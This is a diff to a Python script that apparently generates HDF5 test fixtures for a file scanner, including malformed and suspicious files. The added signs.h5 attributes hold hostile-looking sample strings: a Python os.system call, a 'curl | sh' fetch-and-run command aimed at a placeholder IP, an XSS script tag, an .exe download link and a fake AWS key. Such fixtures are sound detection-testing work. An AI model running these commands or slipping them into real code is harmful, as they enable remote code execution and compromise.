@@ -49,6 +49,8 @@ class Evil:
 
 def main():
     os.makedirs(OUT, exist_ok=True)
+    for old in os.listdir(OUT):
+        os.unlink(OUT + old)
     for lib in ('earliest', 'latest'):
         with file('clean_types_%s.h5' % lib, libver=lib) as h:
             types(h)
@@ -137,8 +139,16 @@ def main():
     with file('program.h5') as h:
         h.create_dataset('w', data=np.frombuffer(b'\1' * 64 + bytes(prog), 'f4'), chunks=(1040,), compression='gzip',
                          shuffle=True)
-    with file('code.h5') as h:
-        h.attrs['note'] = '__import__("os").system("id")'
+    with file('signs.h5') as h:
+        h.attrs['code'] = '__import__("os").system("id")'
+        h.attrs['shell'] = 'curl http://192.0.2.1/x | sh'
+        h.attrs['script'] = '<script>alert(1)</script>'
+        h.attrs['encoded'] = 'String.fromCharCode(1,2)'
+        h.attrs['address'] = 'http://192.0.2.1/a.exe'
+        h.attrs['secret'] = 'AKIAIOSFODNN7ABCDEFG'
+    with file('pointers.h5') as h:
+        t = h5py.h5t.array_create(h5py.h5t.py_create(h5py.string_dtype(), logical=True), (1100,))
+        h5py.h5a.create(h.id, b'x', t, h5py.h5s.create(h5py.h5s.SCALAR))
     whole = open(OUT + 'clean_old.h5', 'rb').read()
     open(OUT + 'cut.h5', 'wb').write(whole[:-20])
 
